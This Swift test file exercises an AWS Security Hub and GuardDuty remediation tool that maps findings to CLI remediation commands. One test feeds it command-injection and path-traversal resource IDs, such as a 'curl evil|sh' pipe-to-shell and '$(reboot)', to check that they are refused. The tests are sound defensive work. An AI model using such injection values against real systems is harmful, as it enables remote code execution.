import XCTest
import FindingsCore
@testable import Remediation

final class PlaybookTests: XCTestCase {
    /// A control finding for `control` about `resource` (type, id), as Security Hub writes it.
    static func controlFinding(_ control: String, type: String, id: String, details: String = "", status: String = "FAILED") -> String {
        """
        {"SchemaVersion":"2018-10-08","Id":"arn:aws:securityhub:us-east-1:123456789012:security-control/\(control)/finding/1","ProductArn":"arn:aws:securityhub:us-east-1::product/aws/securityhub","GeneratorId":"security-control/\(control)","AwsAccountId":"123456789012","Types":["Software and Configuration Checks"],"CreatedAt":"2026-01-01T00:00:00Z","UpdatedAt":"2026-01-02T00:00:00Z","Severity":{"Label":"HIGH"},"Title":"t","Description":"d","Region":"us-east-1","Resources":[{"Type":"\(type)","Id":"\(id)"\(details)}],"Compliance":{"Status":"\(status)","SecurityControlId":"\(control)"},"Workflow":{"Status":"NEW"},"RecordState":"ACTIVE"}
        """
    }

    func plan(_ finding: String, playbook: Playbook = .builtIn(), variables: [String: String] = [:]) throws -> [(String, Result<[String], ActionRefusal>)] {
        let tape = JSONTape()
        var bytes = Array(finding.utf8)
        return try bytes.withUnsafeMutableBytes { raw in
            let root = try tape.parse(UnsafeRawBufferPointer(raw)).root
            var matched: [Int] = []
            playbook.matches(root, into: &matched)
            return matched.sorted().map { index in
                let entry = playbook.entries[index]
                let result = Result { () throws(ActionRefusal) -> [String] in
                    try entry.action.argv(for: root, region: "us-east-1", variables: variables, extra: [])
                }
                return (entry.name, result)
            }
        }
    }

    func testBuiltInLibraryCoversTheRequiredControls() throws {
        let library = Playbook.builtIn()
        XCTAssertGreaterThanOrEqual(library.entries.count, 30)
        let vars = ["automation-role": "arn:aws:iam::123456789012:role/Remediation",
                    "cloudtrail-kms-key": "1234abcd-12ab-34cd-56ef-1234567890ab"]
        let cases: [(String, String, String, String)] = [
            ("S3.1", "AwsAccount", "AWS::::Account:123456789012", "s3-account-block-public-access"),
            ("S3.2", "AwsS3Bucket", "arn:aws:s3:::b-1", "s3-bucket-public-read-write"),
            ("S3.3", "AwsS3Bucket", "arn:aws:s3:::b-1", "s3-bucket-public-read-write"),
            ("S3.8", "AwsS3Bucket", "arn:aws:s3:::b-1", "s3-bucket-block-public-access"),
            ("S3.4", "AwsS3Bucket", "arn:aws:s3:::b-1", "s3-bucket-default-encryption"),
            ("S3.5", "AwsS3Bucket", "arn:aws:s3:::b-1", "s3-bucket-ssl-only"),
            ("EC2.1", "AwsAccount", "AWS::::Account:123456789012", "ec2-snapshot-block-public-access"),
            ("EC2.2", "AwsEc2SecurityGroup", "arn:aws:ec2:us-east-1:123456789012:security-group/sg-0123abcd", "ec2-default-security-group-close"),
            ("EC2.7", "AwsAccount", "AWS::::Account:123456789012", "ec2-ebs-encryption-by-default"),
            ("EC2.8", "AwsEc2Instance", "arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0", "ec2-require-imdsv2"),
            ("EC2.13", "AwsEc2SecurityGroup", "arn:aws:ec2:us-east-1:123456789012:security-group/sg-0123abcd", "ec2-revoke-public-ssh"),
            ("EC2.18", "AwsEc2SecurityGroup", "arn:aws:ec2:us-east-1:123456789012:security-group/sg-0123abcd", "ec2-revoke-unrestricted-ingress"),
            ("EC2.19", "AwsEc2SecurityGroup", "arn:aws:ec2:us-east-1:123456789012:security-group/sg-0123abcd", "ec2-revoke-unrestricted-ingress"),
            ("CloudTrail.1", "AwsAccount", "AWS::::Account:123456789012", "cloudtrail-enable"),
            ("CloudTrail.2", "AwsCloudTrailTrail", "arn:aws:cloudtrail:us-east-1:123456789012:trail/main", "cloudtrail-kms-encryption"),
            ("CloudTrail.4", "AwsCloudTrailTrail", "arn:aws:cloudtrail:us-east-1:123456789012:trail/main", "cloudtrail-log-file-validation"),
            ("Config.1", "AwsAccount", "AWS::::Account:123456789012", "config-start-recorder"),
            ("GuardDuty.1", "AwsAccount", "AWS::::Account:123456789012", "guardduty-enable"),
            ("KMS.4", "AwsKmsKey", "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab", "kms-enable-key-rotation"),
            ("Lambda.1", "AwsLambdaFunction", "arn:aws:lambda:us-east-1:123456789012:function:fn", "lambda-remove-public-access"),
            ("RDS.2", "AwsRdsDbInstance", "arn:aws:rds:us-east-1:123456789012:db:prod", "rds-no-public-access"),
            ("SSM.4", "AwsSsmDocument", "arn:aws:ssm:us-east-1:123456789012:document/MyDoc", "ssm-document-private"),
            ("SecretsManager.1", "AwsSecretsManagerSecret", "arn:aws:secretsmanager:us-east-1:123456789012:secret:db-AbCdEf", "secretsmanager-rotate"),
        ]
        for (control, type, id, expected) in cases {
            let planned = try plan(Self.controlFinding(control, type: type, id: id), playbook: library, variables: vars)
            XCTAssertEqual(planned.map(\.0), [expected], control)
            if case .failure(let refusal)? = planned.first?.1 { XCTFail("\(control): \(refusal)") }
        }
        let user = #","Details":{"AwsIamUser":{"UserId":"AIDAJQABLZS4A3QDU576Q"}}"#
        XCTAssertEqual(try plan(Self.controlFinding("IAM.8", type: "AwsIamUser", id: "arn:aws:iam::123456789012:user/a", details: user), variables: vars).map(\.0), ["iam-revoke-unused-credentials"])
        let unrotated = try plan(Self.controlFinding("IAM.3", type: "AwsIamUser", id: "arn:aws:iam::123456789012:user/a", details: user), variables: vars)
        XCTAssertEqual(unrotated.map(\.0), ["iam-revoke-unrotated-keys"])
        XCTAssertEqual(try unrotated.first?.1.get()[6], #"{"IAMResourceId":["AIDAJQABLZS4A3QDU576Q"],"MaxCredentialUsageAge":["90"],"AutomationAssumeRole":["arn:aws:iam::123456789012:role/Remediation"]}"#)
        let key = #","Details":{"AwsIamAccessKey":{"PrincipalName":"alice","AccessKeyId":"AKIAIOSFODNN7EXAMPLE"}}"#
        let iam3 = try plan(Self.controlFinding("IAM.3", type: "AwsIamAccessKey", id: "AKIAIOSFODNN7EXAMPLE", details: key))
        XCTAssertEqual(try iam3.first?.1.get(), ["aws", "iam", "update-access-key", "--user-name", "alice", "--access-key-id", "AKIAIOSFODNN7EXAMPLE", "--status", "Inactive", "--region", "us-east-1"])
    }

    func testGuardDutyThreatPlaybooks() throws {
        func threat(_ type: String, resource: String) -> String {
            """
            {"SchemaVersion":"2018-10-08","Id":"arn:aws:guardduty:us-east-1:123456789012:detector/d/finding/f","ProductArn":"arn:aws:securityhub:us-east-1::product/aws/guardduty","GeneratorId":"arn:aws:guardduty:us-east-1:123456789012:detector/d","AwsAccountId":"123456789012","Types":["TTPs/\(type)"],"CreatedAt":"2026-01-01T00:00:00Z","UpdatedAt":"2026-01-01T00:00:00Z","Severity":{"Label":"HIGH"},"Title":"t","Description":"d","Resources":[\(resource)],"RecordState":"ACTIVE"}
            """
        }
        let instance = #"{"Type":"AwsEc2Instance","Id":"arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0"}"#
        let compromise = try plan(threat("Command and Control/Backdoor:EC2-C&CActivity.B", resource: instance), variables: ["isolation-security-group": "sg-0123abcd"])
        XCTAssertEqual(compromise.map(\.0), ["guardduty-ec2-forensic-snapshot", "guardduty-ec2-isolate"])
        XCTAssertEqual(try compromise[0].1.get()[4], "InstanceId=i-0123456789abcdef0")
        XCTAssertEqual(try compromise[1].1.get(), ["aws", "ec2", "modify-instance-attribute", "--instance-id", "i-0123456789abcdef0", "--groups", "sg-0123abcd", "--region", "us-east-1"])
        let key = #"{"Type":"AwsIamAccessKey","Id":"AKIAIOSFODNN7EXAMPLE","Details":{"AwsIamAccessKey":{"PrincipalName":"bob","AccessKeyId":"AKIAIOSFODNN7EXAMPLE"}}}"#
        XCTAssertEqual(try plan(threat("Unusual Behaviors/UnauthorizedAccess:IAMUser-InstanceCredentialExfiltration.OutsideAWS", resource: key)).map(\.0), ["guardduty-iam-deactivate-access-key"])
        let session = key.replacingOccurrences(of: "AKIA", with: "ASIA")
        XCTAssertEqual(try plan(threat("Unusual Behaviors/UnauthorizedAccess:IAMUser-InstanceCredentialExfiltration.OutsideAWS", resource: session)).map(\.0), [], "session credentials are not deactivated")
        let bucket = #"{"Type":"AwsS3Bucket","Id":"arn:aws:s3:::data-1"}"#
        XCTAssertEqual(try plan(threat("Effects/Policy:S3-BucketBlockPublicAccessDisabled", resource: bucket)).map(\.0), ["guardduty-s3-restore-bucket-block-public-access"])
        XCTAssertEqual(try plan(threat("Initial Access/UnauthorizedAccess:EC2-SSHBruteForce", resource: instance)).map(\.0), [], "brute force is not a compromise")
    }

    func testHostileValuesAreRefused() throws {
        for id in ["arn:aws:s3:::b;curl evil|sh", "arn:aws:s3:::../../etc", "arn:aws:s3:::$(reboot)", "arn:aws:s3:::-x"] {
            let planned = try plan(Self.controlFinding("S3.8", type: "AwsS3Bucket", id: id))
            guard case .failure(let refusal)? = planned.first?.1 else { return XCTFail("\(id) was not refused") }
            XCTAssertTrue(refusal.reason.contains("Resources[0].Id"), refusal.reason)
        }
        let sg = try plan(Self.controlFinding("EC2.13", type: "AwsEc2SecurityGroup", id: "arn:aws:ec2:us-east-1:123456789012:security-group/../sg-0123abcd"))
        guard case .failure? = sg.first?.1 else { return XCTFail("traversal not refused") }
    }

    func testEligibility() throws {
        let tape = JSONTape()
        func eligibility(_ text: String) throws -> Eligibility {
            var bytes = Array(text.utf8)
            return try bytes.withUnsafeMutableBytes { try Eligibility.of(tape.parse(UnsafeRawBufferPointer($0)).root) }
        }
        let failed = Self.controlFinding("S3.8", type: "AwsS3Bucket", id: "arn:aws:s3:::b-1")
        XCTAssertEqual(try eligibility(failed), .eligible)
        XCTAssertEqual(try eligibility(Self.controlFinding("S3.8", type: "AwsS3Bucket", id: "arn:aws:s3:::b-1", status: "PASSED")), .passThrough(reason: "compliance-passed"))
        XCTAssertEqual(try eligibility(failed.replacingOccurrences(of: "\"NEW\"", with: "\"SUPPRESSED\"")), .passThrough(reason: "suppressed"))
        XCTAssertEqual(try eligibility(failed.replacingOccurrences(of: "\"NEW\"", with: "\"RESOLVED\"")), .passThrough(reason: "resolved"))
        XCTAssertEqual(try eligibility(failed.replacingOccurrences(of: "\"ACTIVE\"", with: "\"ARCHIVED\"")), .passThrough(reason: "archived"))
        XCTAssertEqual(try eligibility(failed.replacingOccurrences(of: "\"NEW\"", with: "\"NOTIFIED\"")), .eligible)
    }

    func testPatternsWrittenAsEventBridgeRulesMatchTheFindingsEvent() throws {
        let json = """
        [{"name": "rule-style", "risk": "low",
          "match": {"source": ["aws.securityhub"], "detail-type": ["Security Hub Findings - Imported"], "account": ["123456789012"],
                    "detail": {"findings": {"Compliance": {"SecurityControlId": ["EC2.13"]}}}},
          "action": {"cli": "ec2 revoke-security-group-ingress", "parameters": {"--group-id": {"from": "Resources[0].Id", "take": "arn-name", "as": "security-group-id"}}}},
         {"name": "other-account", "risk": "low",
          "match": {"account": ["999999999999"], "detail": {"findings": {"Compliance": {"SecurityControlId": ["EC2.13"]}}}},
          "action": {"cli": "ec2 revoke-security-group-ingress", "parameters": {"--group-id": {"from": "Resources[0].Id", "take": "arn-name", "as": "security-group-id"}}}},
         {"name": "finding-style", "risk": "low", "match": {"Compliance": {"SecurityControlId": ["EC2.13"]}},
          "action": {"cli": "ec2 revoke-security-group-ingress", "parameters": {"--group-id": {"from": "Resources[0].Id", "take": "arn-name", "as": "security-group-id"}}}}]
        """
        let playbook = try Playbook(document: ConfigFile.parse(Array(json.utf8), path: "rules.json"))
        let finding = Self.controlFinding("EC2.13", type: "AwsEc2SecurityGroup", id: "arn:aws:ec2:us-east-1:123456789012:security-group/sg-0123abcd")
        XCTAssertEqual(try plan(finding, playbook: playbook).map(\.0), ["rule-style", "finding-style"])
    }

    func testPlaybookFileErrorsNameFileLineAndKey() throws {
        let yaml = """
        playbooks:
          - name: open-ssh
            match: {Compliance: {SecurityControlId: [EC2.13]}}
            action:
              cli: ec2 revoke-security-group-ingress
              parameters:
                --group-id: {from: "Resources[0].Id", take: arn-name, as: sg}
            risk: low
        """
        XCTAssertThrowsError(try Playbook(document: ConfigFile.parse(Array(yaml.utf8), path: "p.yaml"))) { error in
            let message = "\(error)"
            XCTAssertTrue(message.hasPrefix("p.yaml:7: playbooks[0].action.parameters.--group-id.as:"), message)
        }
        let disruptiveWithoutApproval = yaml.replacingOccurrences(of: "as: sg}", with: "as: security-group-id}")
            .replacingOccurrences(of: "risk: low", with: "risk: disruptive\n    requires: none")
        XCTAssertThrowsError(try Playbook(document: ConfigFile.parse(Array(disruptiveWithoutApproval.utf8), path: "p.yaml"))) { error in
            XCTAssertTrue("\(error)".contains("must require approval"), "\(error)")
        }
        let shell = yaml.replacingOccurrences(of: "as: sg}", with: "as: security-group-id}").replacingOccurrences(of: "cli: ec2 revoke-security-group-ingress", with: "cli: sh -c")
        XCTAssertThrowsError(try Playbook(document: ConfigFile.parse(Array(shell.utf8), path: "p.yaml")))
        let badPattern = yaml.replacingOccurrences(of: "as: sg}", with: "as: security-group-id}").replacingOccurrences(of: "[EC2.13]", with: "[]")
        XCTAssertThrowsError(try Playbook(document: ConfigFile.parse(Array(badPattern.utf8), path: "p.yaml"))) { error in
            XCTAssertTrue("\(error)".contains("p.yaml:3"), "\(error)")
        }
    }

    /// Every built-in `cli` action names a real AWS CLI operation, and every option is a
    /// member of its input shape (booleans also as `--no-...`) per the installed botocore
    /// models, or else an option the CLI's own help for the command documents (customisations
    /// such as `ec2 revoke-security-group-ingress --port`).
    func testBuiltInActionsAreRealAWSCLIOperations() throws {
        var lines: [String] = []
        for entry in Playbook.builtIn().entries {
            guard case .cli(let service, let operation) = entry.action.kind else { continue }
            lines.append(([service, operation] + entry.action.parameters.map(\.name)).joined(separator: " "))
        }
        let script = """
        import os, re, subprocess, sys, botocore.session
        from botocore import xform_name
        s = botocore.session.get_session()
        names = {"s3api": "s3", "configservice": "config"}
        bad = []
        for line in sys.stdin.read().splitlines():
            service, operation, *options = line.split(" ")
            model = s.get_service_model(names.get(service, service))
            ops = {xform_name(o, "-"): o for o in model.operation_names}
            if operation not in ops:
                bad.append(line + ": no such operation"); continue
            shape = model.operation_model(ops[operation]).input_shape
            members = {xform_name(m, "-"): t for m, t in (shape.members.items() if shape else [])}
            for option in options:
                name = option[2:]
                if name in members: continue
                if name.startswith("no-") and members.get(name[3:]) is not None and members[name[3:]].type_name == "boolean": continue
                page = subprocess.run(["aws", service, operation, "help"], capture_output=True, text=True,
                                      env={"PAGER": "cat", "PATH": os.environ["PATH"]}).stdout
                if re.search(r"(?<![\\w-])" + re.escape(option) + r"(?![\\w-])", page): continue
                bad.append(line + ": no option " + option)
        print("\\n".join(bad))
        """
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script]
        let input = Pipe(), output = Pipe()
        process.standardInput = input
        process.standardOutput = output
        try process.run()
        input.fileHandleForWriting.write(Data(lines.joined(separator: "\n").utf8))
        try input.fileHandleForWriting.close()
        let problems = String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        XCTAssertEqual(process.terminationStatus, 0)
        XCTAssertEqual(problems.trimmingCharacters(in: .whitespacesAndNewlines), "", problems)
        XCTAssertGreaterThan(lines.count, 20)
    }
}
